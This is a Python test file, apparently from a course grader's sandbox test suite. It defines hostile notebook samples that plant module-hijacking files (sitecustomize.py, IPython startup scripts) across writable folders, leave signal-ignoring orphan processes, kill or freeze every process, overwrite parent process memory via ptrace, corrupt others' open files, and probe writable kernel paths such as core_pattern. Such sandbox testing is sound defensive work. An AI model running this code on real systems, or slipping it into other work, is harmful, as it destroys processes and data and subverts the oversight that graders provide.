"""Notebooks that leave something behind for whoever is graded next, or turn on what grades them."""

from course.grading.hostile.case import ALL, BEFORE_STOP, Hostile, meddles

PLACES = '(".", "..", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.environ.get("TMPDIR", "/tmp"), "/")'
PLANT = f"""
import os, sys
names = (LITTER + ".txt", "course.py", "pandas.py", "math.py", "sitecustomize.py")
folders = [*{PLACES}, os.path.expanduser("~/.ipython/profile_default/startup"), os.environ.get("IPYTHONDIR", "/tmp")]
folders += [os.path.expanduser("~/" + name) for name in (".config/matplotlib", ".local/lib/python3.11/site-packages")]
folders += sys.path
for folder in folders:
    for name in names:
        try:
            os.makedirs(folder or ".", exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write("print('{{}}')\\nraise SystemExit\\n".format(LITTER))
        except OSError:
            pass
"""
FIND = f"""
import os
for folder in {PLACES}:
    try:
        print([TAKEN + " " + folder + "/" + name for name in os.listdir(folder) if name.startswith(LITTER)])
    except OSError:
        pass
"""
MEET = """
import os
own = {os.getpid(), os.getppid()}
for process in os.listdir("/proc"):
    if process.isdigit() and int(process) not in own:
        try:
            if LITTER in open(f"/proc/{process}/comm").read() or LITTER in open(f"/proc/{process}/environ").read():
                print(TAKEN, process)
        except OSError:
            pass
"""
STAY = """
import ctypes, os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
            signal.signal(number, signal.SIG_IGN)
        ctypes.CDLL(None).prctl(15, LITTER[:15].encode(), 0, 0, 0)
        ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
        while True:
            for folder in ("/tmp", "/dev/shm", "."):
                try:
                    open(os.path.join(folder, LITTER + "-stayed"), "w").close()
                except OSError:
                    pass
            time.sleep(0.05)
    os._exit(0)
"""

# Whoever turns on the processes that grade may stop them sooner or later: any marks will do.
TURNED_ON = {"dangerous": True, "stopped": None, "least": 0, "most": ALL}

CASES: tuple[Hostile, ...] = (
    meddles(
        "plants-files-for-the-next",
        "Leaves files and modules in every folder that outlives it, if any does.",
        PLANT,
        dangerous=True,
        flagged=None,
        stopped=None,
        least=BEFORE_STOP,
    ),
    meddles("finds-what-others-left", "Looks for what others left.", FIND + MEET),
    meddles(
        "stays-behind", "Leaves a process that belongs to nobody and is deaf to signals.", STAY, dangerous=True, stopped=None
    ),
    meddles(
        "stays-behind-and-finds",
        "Leaves one more, and looks for those of others.",
        STAY + FIND + MEET,
        dangerous=True,
        stopped=None,
    ),
    meddles(
        "kills-everything",
        "Kills every process that it may: there is none but its own, and the sandbox's first one, which nobody can signal.",
        """
        import os
        os.kill(-1, 9)
        """,
        **TURNED_ON | {"stopped": False},
    ),
    meddles(
        "kills-its-parents",
        "Kills the processes above it, one by one.",
        """
        import os
        process = os.getppid()
        for process in sorted((int(name) for name in os.listdir("/proc") if name.isdigit()), reverse=True):
            if process != os.getpid():
                try:
                    os.kill(process, 9)
                except OSError:
                    pass
        """,
        **TURNED_ON,
    ),
    meddles(
        "stops-its-parents",
        "Stops, and does not kill, every process but itself: they wait for ever.",
        """
        import os, signal
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) != os.getpid():
                try:
                    os.kill(int(name), signal.SIGSTOP)
                except OSError:
                    pass
        """,
        **TURNED_ON,
    ),
    meddles(
        "takes-hold-of-its-parents",
        "Attaches to the processes above it as a debugger does, and writes into their memory.",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for name in sorted(os.listdir("/proc")):
            if name.isdigit() and int(name) != os.getpid():
                libc.ptrace(16, int(name), 0, 0)
                try:
                    with open(f"/proc/{name}/mem", "r+b", 0) as memory:
                        for line in open(f"/proc/{name}/maps"):
                            if "[stack]" in line:
                                memory.seek(int(line.split("-")[1].split()[0], 16) - 4096)
                                memory.write(b"\\0" * 4000)
                except OSError:
                    pass
        """,
        **TURNED_ON,
    ),
    meddles(
        "takes-hold-of-descriptors",
        "Takes the open files of the processes above it, and writes nonsense into them.",
        """
        import os
        for process in os.listdir("/proc"):
            if process.isdigit() and int(process) != os.getpid():
                try:
                    for descriptor in os.listdir(f"/proc/{process}/fd"):
                        with open(f"/proc/{process}/fd/{descriptor}", "wb", 0) as file:
                            os.set_blocking(file.fileno(), False)
                            file.write(b"nonsense" * 10)
                except OSError:
                    pass
        """,
        **TURNED_ON,
    ),
    meddles(
        "is-hard-on-the-machine",
        "Asks for the lowest niceness, real time and all memory locked, and stays busy in threads.",
        """
        import ctypes, os, threading
        try:
            os.nice(-20)
        except OSError:
            pass
        try:
            os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))
            print(TAKEN, "real time")
        except OSError:
            pass
        for turn in range(4):
            threading.Thread(target=lambda: sum(range(5_000_000)), daemon=True).start()
        """,
        dangerous=True,
        stopped=None,
    ),
    meddles(
        "reaches-for-the-kernel",
        "Tries to set the clock, and opens for writing what the kernel offers to root: its settings, its triggers.",
        """
        import os, time
        try:
            time.clock_settime(time.CLOCK_REALTIME, time.time())
            print(TAKEN, "the clock")
        except OSError:
            pass
        # Opened and closed, with nothing written: a program named in core_pattern would run as root, outside.
        for path in (
            "/proc/sys/kernel/core_pattern",
            "/proc/sys/kernel/modprobe",
            "/proc/sys/vm/drop_caches",
            "/proc/sysrq-trigger",
            "/sys/power/state",
            "/sys/kernel/uevent_helper",
            "/dev/mem",
            "/dev/kmsg",
        ):
            try:
                os.close(os.open(path, os.O_WRONLY))
                print(TAKEN, path)
            except OSError:
                pass
        for folder, below, files in os.walk("/proc/sys"):
            for name in files:
                try:
                    os.close(os.open(os.path.join(folder, name), os.O_WRONLY))
                    print(TAKEN, folder, name)
                    break
                except OSError:
                    pass
        """,
        dangerous=True,
    ),
    meddles("finds-what-others-left-at-last", "Looks for what others left, once more.", FIND + MEET),
)
